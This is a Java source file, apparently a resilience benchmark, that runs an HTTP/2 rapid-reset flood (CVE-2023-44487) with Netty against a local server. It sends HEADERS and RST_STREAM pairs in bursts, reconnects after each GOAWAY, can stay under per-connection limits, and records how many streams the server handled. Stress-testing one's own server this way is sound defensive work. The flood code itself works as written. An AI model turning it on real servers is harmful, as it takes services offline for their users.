package dev.vitals.benchmarks.resilience;

import io.netty.bootstrap.Bootstrap;
import io.netty.buffer.ByteBuf;
import io.netty.channel.Channel;
import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.ChannelInitializer;
import io.netty.channel.EventLoopGroup;
import io.netty.channel.MultiThreadIoEventLoopGroup;
import io.netty.channel.nio.NioIoHandler;
import io.netty.channel.socket.SocketChannel;
import io.netty.channel.socket.nio.NioSocketChannel;
import io.netty.handler.codec.http2.DefaultHttp2Headers;
import io.netty.handler.codec.http2.Http2ConnectionHandler;
import io.netty.handler.codec.http2.Http2ConnectionHandlerBuilder;
import io.netty.handler.codec.http2.Http2Error;
import io.netty.handler.codec.http2.Http2FrameAdapter;
import io.netty.handler.codec.http2.Http2Headers;
import io.netty.handler.codec.http2.Http2Settings;

import java.net.InetSocketAddress;
import java.time.Duration;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;

/**
 * Issue 23, item 5: HTTP/2 rapid reset (CVE-2023-44487's shape) with Netty's HTTP/2 codec, prior knowledge on the
 * HTTP port: HEADERS of {@code GET /health/live} then RST_STREAM CANCEL, 50 pairs a ms on one connection, and a new
 * connection as soon as the server closes one (after its GOAWAY). As {@code StandaloneRapidResetTest}, for longer.
 */
final class RapidReset {

  /**
   * What the attacker did and got.
   *
   * @param connections connections opened
   * @param refused     connections that could not be opened
   * @param sent        HEADERS + RST_STREAM pairs sent
   * @param handled     streams the server handled: what each GOAWAY's last stream id says, or all sent on a
   *                    connection that got no GOAWAY
   * @param goAways     GOAWAY error codes received (Http2Error names), each with its count
   * @param first       the first connection's streams sent, handled, and its GOAWAY's error code
   */
  record Result(long connections, long refused, long sent, long handled, Map<String, Long> goAways, String first) {
  }

  private RapidReset() {
  }

  /** One attacking connection: streams it sent, and the last stream id the server's GOAWAY says it took. */
  private static final class Attack extends Http2FrameAdapter {
    final AtomicLong sent = new AtomicLong();
    final Map<String, Long> goAways;
    volatile long goAwayLastStream = -1;
    volatile String goAwayError;

    Attack(Map<String, Long> goAways) {
      this.goAways = goAways;
    }

    @Override
    public void onGoAwayRead(ChannelHandlerContext ctx, int lastStreamId, long errorCode, ByteBuf debugData) {
      goAwayLastStream = lastStreamId;
      Http2Error error = Http2Error.valueOf(errorCode);
      goAwayError = error == null ? Long.toString(errorCode) : error.name();
      goAways.merge(goAwayError, 1L, Long::sum);
    }

    @Override
    public void onSettingsRead(ChannelHandlerContext ctx, Http2Settings settings) {
    }

    long handled() {
      return goAwayLastStream >= 0 ? (goAwayLastStream + 1) / 2 : sent.get();
    }
  }

  /**
   * Attacks 127.0.0.1:{@code port} from {@code from} for {@code length}.
   *
   * @param perConnection streams a connection resets before the attacker closes it and reconnects (below the
   *                      server's per-connection limit, to stay under it); 0: until the server closes it
   * @return what was sent and what came back
   */
  static Result run(int port, String from, Duration length, int perConnection) throws InterruptedException {
    EventLoopGroup group = new MultiThreadIoEventLoopGroup(1, NioIoHandler.newFactory());
    Map<String, Long> goAways = new ConcurrentHashMap<>();
    long connections = 0;
    long refused = 0;
    long sent = 0;
    long handled = 0;
    String first = "none";
    long end = System.nanoTime() + length.toNanos();
    try {
      while (System.nanoTime() < end) {
        Attack attack = new Attack(goAways);
        Http2ConnectionHandler[] handler = new Http2ConnectionHandler[1];
        var connecting = new Bootstrap().group(group).channel(NioSocketChannel.class)
          .handler(new ChannelInitializer<SocketChannel>() {
            @Override
            protected void initChannel(SocketChannel ch) {
              handler[0] = new Http2ConnectionHandlerBuilder().server(false).frameListener(attack).build();
              ch.pipeline().addLast(handler[0]);
            }
          })
          .connect(new InetSocketAddress("127.0.0.1", port), new InetSocketAddress(from, 0)).await();
        if (!connecting.isSuccess()) {
          refused++;
          Thread.sleep(1);
          continue;
        }
        connections++;
        Channel channel = connecting.channel();
        channel.eventLoop().execute(() -> flood(channel, handler[0], attack, port, perConnection));
        // Reconnect on GOAWAY: the next connection once this one closes.
        channel.closeFuture().await(Math.max(1, TimeUnit.NANOSECONDS.toMillis(end - System.nanoTime())));
        channel.close().await();
        sent += attack.sent.get();
        handled += attack.handled();
        if (connections == 1) {
          first = attack.goAwayLastStream < 0
            ? String.format(Locale.ROOT, "%,d sent, closed with no GOAWAY read (all counted handled)", attack.sent.get())
            : String.format(Locale.ROOT, "%,d sent, %,d handled, GOAWAY %s", attack.sent.get(), attack.handled(),
              attack.goAwayError);
        }
      }
    } finally {
      group.shutdownGracefully(0, 1, TimeUnit.SECONDS).await();
    }
    return new Result(connections, refused, sent, handled, new TreeMap<>(goAways), first);
  }

  /**
   * Sends HEADERS + RST_STREAM pairs in batches of 50 on the channel's event loop until the channel closes, or until
   * {@code perConnection} were sent (then closes it; 0: no such bound).
   */
  private static void flood(Channel channel, Http2ConnectionHandler handler, Attack attack, int port,
                            int perConnection) {
    if (!channel.isActive()) {
      return;
    }
    if (perConnection > 0 && attack.sent.get() >= perConnection) {
      channel.close();
      return;
    }
    ChannelHandlerContext ctx = channel.pipeline().context(handler);
    Http2Headers headers = new DefaultHttp2Headers().method("GET").path("/health/live").scheme("http")
      .authority("127.0.0.1:" + port);
    for (int i = 0; i < 50 && channel.isActive() && (perConnection == 0 || attack.sent.get() < perConnection); i++) {
      int id;
      try {
        id = handler.connection().local().incrementAndGetNextStreamId();
        handler.encoder().writeHeaders(ctx, id, headers, 0, true, ctx.newPromise());
      } catch (Exception e) {
        channel.close();
        return;
      }
      handler.resetStream(ctx, id, Http2Error.CANCEL.code(), ctx.newPromise());
      attack.sent.incrementAndGet();
    }
    ctx.flush();
    channel.eventLoop().schedule(() -> flood(channel, handler, attack, port, perConnection), 1, TimeUnit.MILLISECONDS);
  }
}
